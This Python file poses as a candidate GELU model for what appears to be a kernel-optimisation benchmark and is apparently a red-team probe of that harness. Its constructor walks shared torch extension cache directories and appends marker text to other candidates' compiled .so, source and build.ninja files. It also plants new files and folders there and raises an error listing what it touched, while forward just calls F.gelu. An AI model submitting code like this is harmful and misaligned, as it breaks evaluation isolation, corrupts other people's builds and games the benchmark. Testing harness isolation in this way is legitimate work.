# target: problems/level1/07_gelu.py | device: any
# Poisons other candidates' compiled extensions in the shared extension cache (TORCH_EXTENSIONS_DIR): edits their sources, build files and .so, adds folders.
import os

import torch.nn as nn
import torch.nn.functional as F

MARK = "KSWARM-REDTEAM-PWN"
_wrote, _refused = [], []


def _append(path, text=None):
    """Appends a marker (a comment in the file's own language) to an existing file."""
    if text is None:
        text = f"\n# {MARK}\n" if path.endswith((".py", ".sh", ".toml", "rc", ".profile", ".cfg",
                                                   ".txt", "environment", ".ninja", ".pth")) \
            else f"\n/* {MARK} */\n" if path.endswith((".cpp", ".h", ".c")) else MARK
    try:
        with open(path, "a") as f:
            f.write(text)
        _wrote.append(path)
    except OSError as e:
        _refused.append(f"{path} ({e.strerror})")


def _create(path, text=""):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text or f"# {MARK}\n")
        _wrote.append(path)
    except OSError as e:
        _refused.append(f"{path} ({e.strerror})")


def _report(tag):
    raise RuntimeError(f"REDTEAM {tag} wrote=[{'; '.join(_wrote)}] refused=[{'; '.join(_refused)}]")


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        own = os.environ.get("TORCH_EXTENSIONS_DIR", "")
        roots = {os.path.dirname(own.rstrip("/")), os.path.expanduser("~/.cache/kswarm/torch_extensions"),
                 "/root/.cache/kswarm/torch_extensions", "/root/.cache/torch_extensions"}
        for root in sorted(roots):
            if not os.path.isdir(root):
                continue
            for folder in sorted(os.listdir(root)):
                path = os.path.join(root, folder)
                if not os.path.isdir(path) or path == own:
                    continue
                for sub, _, files in os.walk(path):
                    for name in files:
                        if name.endswith((".so", ".cpp", ".ninja", ".h", ".cu")):
                            _append(os.path.join(sub, name))
                _create(os.path.join(path, "redteam_pwn.txt"))
            _create(os.path.join(root, "redteam_pwn_folder", "build.ninja"))
        _report("persist_extension_cache")

    def forward(self, x):
        return F.gelu(x)
